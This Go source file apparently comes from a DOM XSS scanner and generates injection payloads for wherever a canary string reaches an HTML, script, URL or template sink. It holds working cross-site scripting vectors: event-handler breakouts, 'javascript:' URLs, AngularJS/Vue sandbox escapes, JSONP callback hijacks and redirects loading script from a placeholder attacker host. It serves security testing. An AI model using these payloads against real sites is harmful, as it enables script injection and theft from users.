package browser

import (
	gohtml "html"
	"net/url"
	"slices"
	"strings"

	"merlon/internal/lazyregexp"
)

// This file makes the texts that leave the place in which a canary has reached a sink.

// flowPayloads returns texts in which F() is our function, for a value with the canary as
// a sink got it; none when nothing is left that could break out.
func flowPayloads(kind, value, canary string) []string {
	var out []string
	for from := 0; from < len(value) && len(out) < maxPayloads; { // a script may write it twice, encoded once
		i := strings.Index(value[from:], canary)
		if i < 0 {
			break
		}
		i += from
		from = i + len(canary)
		for _, p := range breakOuts(kind, value[:i], value[from:]) {
			if !slices.Contains(out, p) {
				out = append(out, p)
			}
		}
	}
	return out
}

// maxPayloads bounds the payloads for one text that has reached a sink.
const maxPayloads = 8

// breakOuts returns payloads for one place of the canary.
func breakOuts(kind, before, after string) []string {
	switch kind {
	case "TrustedHTML":
		return htmlPayloads(before, after)
	case "TrustedScript":
		return scriptPayloads(before, after)
	case "TrustedScriptURL":
		if before == "" {
			return []string{"data:text/javascript,F()", "//HOST/", "javascript:F()"}
		}
		return addressPayloads(before, after)
	case "request":
		if before == "" {
			return []string{"data:,F()//<img src=x onerror=F()>", "//HOST/"}
		}
		return addressPayloads(before, after)
	case "base":
		if before == "" {
			return []string{"//HOST/"}
		}
		return addressPayloads(before, after)
	case "navigation", "address":
		if before == "" {
			return []string{"javascript:F()", "JavaScript://http://%0aF()"}
		}
	case "template": // of AngularJS without its sandbox, of 1.3 to 1.5 with it, and of Vue
		return []string{"{{constructor.constructor('F()')()}}",
			"{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=F()');}}",
			"{{$el.ownerDocument.defaultView.F()}}"}
	}
	return nil
}

// authority is the beginning of an address that goes on with its host.
var authority = lazyregexp.New(`(?i)^(https?:)?//[^/?#]*$`)

// callback is a name of a parameter of an address whose value such servers call.
var callback = lazyregexp.New(`(?i)[?&]([\w.-]*(?:callback|jsonp|cb)[\w.-]*)=`)

// addressPayloads decides, from behind the beginning of an address, where it leads, or
// what the function is called that the server names in its answer. HOST is the
// attacker's host, which is answered for here.
func addressPayloads(before, after string) []string {
	switch {
	case before == "/" || before == "https:/" || before == "http:/":
		return []string{"/HOST/"}
	case before == "http:" || before == "https:":
		return []string{"//HOST/"}
	case authority.MatchString(before) && strings.HasSuffix(before, "//"):
		return []string{"HOST/"}
	case authority.MatchString(before):
		return []string{".HOST/"}
	case strings.Contains(before, "?"):
		names := callback.FindStringSubmatch(before + "&" + after)
		if names == nil {
			return []string{"x&callback=F#"}
		}
		return []string{"x&" + names[1] + "=F#"}
	}
	return nil
}

// unescapedBreakers are the breakers that are left, unescaped, after the canary. A
// character may be escaped for a script, an address or HTML.
func unescapedBreakers(after string) string {
	kept := ""
	for _, c := range breakers {
		if strings.HasPrefix(after, string(c)) {
			kept += string(c)
			after = after[1:]
			continue
		}
		for _, gone := range []string{"\\" + string(c), url.QueryEscape(string(c)),
			map[rune]string{'\'': "&#39;", '"': "&quot;", '<': "&lt;", '>': "&gt;"}[c]} {
			after = strings.TrimPrefix(after, gone)
		}
	}
	return kept
}

// handler is a tag that ends in the script of an event handler.
var handler = lazyregexp.New(`(?i)\son\w+\s*=\s*("[^"]*|'[^']*|[^\s"'>]*)$`)

// htmlPayloads breaks out of where the canary stands in a text of HTML.
func htmlPayloads(before, after string) []string {
	left := unescapedBreakers(after)
	tag := strings.Contains(left, "<")
	if tag && strings.LastIndex(before, "<!--") > strings.LastIndex(before, "-->") {
		return []string{"-->" + imagePayload}
	}
	if open := strings.LastIndexByte(before, '<'); open > strings.LastIndexByte(before, '>') {
		return tagPayloads(before, open, after)
	}
	if !tag {
		return nil
	}
	lower := strings.ToLower(before)
	for _, raw := range []string{"textarea", "title", "script", "style", "noscript", "xmp", "iframe", "template",
		"select"} {
		if strings.LastIndex(lower, "<"+raw) > strings.LastIndex(lower, "</"+raw) {
			return []string{"</" + raw + ">" + imagePayload}
		}
	}
	if strings.LastIndex(lower, "<option") > strings.LastIndex(lower, "</option") {
		return []string{"</option></select>" + imagePayload, "<script>F()</script>"}
	}
	return []string{imagePayload, "<svg/onload=F()>"}
}

// imagePayload runs the function where a new element can begin.
const imagePayload = "<img src=x onerror=F()>"

// addressAttribute is a tag that ends in the value of an attribute with an address.
var addressAttribute = lazyregexp.New(`(?i)\s(href|src|action|formaction|data)\s*=\s*["']$`)

// tagPayloads breaks out of a tag, which begins at open: of the script of a handler, of a
// quoted value, or by an address of script where the quote cannot be ended.
func tagPayloads(before string, open int, after string) []string {
	left := unescapedBreakers(after)
	quote := openQuote(before[open:])
	if m := handler.FindStringSubmatch(before[open:]); m != nil && strings.HasPrefix(m[1], quote) {
		if inside := scriptPayloads(gohtml.UnescapeString(m[1][len(quote):]),
			gohtml.UnescapeString(after)); inside != nil {
			return inside
		}
	}
	switch {
	case quote == "":
		return []string{"x onmouseover=F() onfocus=F() autofocus tabindex=1 ", "x>" + imagePayload}
	case !strings.Contains(left, quote):
		if addressAttribute.MatchString(before) {
			return []string{"javascript:F()"}
		}
		return nil
	case strings.Contains(left, "<"):
		return []string{quote + ">" + imagePayload,
			quote + " onmouseover=F() onload=F() onfocus=F() autofocus x=" + quote}
	}
	return []string{quote + " onmouseover=F() onload=F() onfocus=F() autofocus x=" + quote}
}

// openQuote returns the quote that is open at the end of a tag. An attribute without
// quotes has none.
func openQuote(tag string) string {
	open := ""
	for _, c := range tag {
		switch s := string(c); {
		case open == s:
			open = ""
		case open == "" && (c == '"' || c == '\''):
			open = s
		}
	}
	return open
}

// scriptPayloads breaks out of where the canary stands in a text of JavaScript.
func scriptPayloads(before, after string) []string {
	left := unescapedBreakers(after)
	switch open := scriptContext(before); {
	case open == "`":
		return []string{"${F()}"}
	case open == "//":
		return []string{"\nF()//"}
	case open == "/*":
		return []string{"*/F()/*"}
	case open != "" && !strings.Contains(left, open):
		return nil
	case open != "":
		return []string{open + "-F()-" + open, open + ");F();//", open + "});F();//"}
	}
	return []string{"F()", "0;F();//", "0);F();//"}
}

// scriptContext returns what is open at the end of a script: a quote, "//", "/*", or
// nothing. Regular expressions are taken for divisions, which costs a payload and no
// false positive.
func scriptContext(script string) string {
	open := ""
	for i := 0; i < len(script); i++ {
		c, two := script[i:i+1], script[i:min(i+2, len(script))]
		switch {
		case open == "//":
			if c == "\n" {
				open = ""
			}
		case open == "/*":
			if two == "*/" {
				open, i = "", i+1
			}
		case open != "":
			if c == "\\" {
				i++
			} else if c == open {
				open = ""
			}
		case two == "//" || two == "/*":
			open, i = two, i+1
		case c == `"` || c == "'" || c == "`":
			open = c
		}
	}
	return open
}
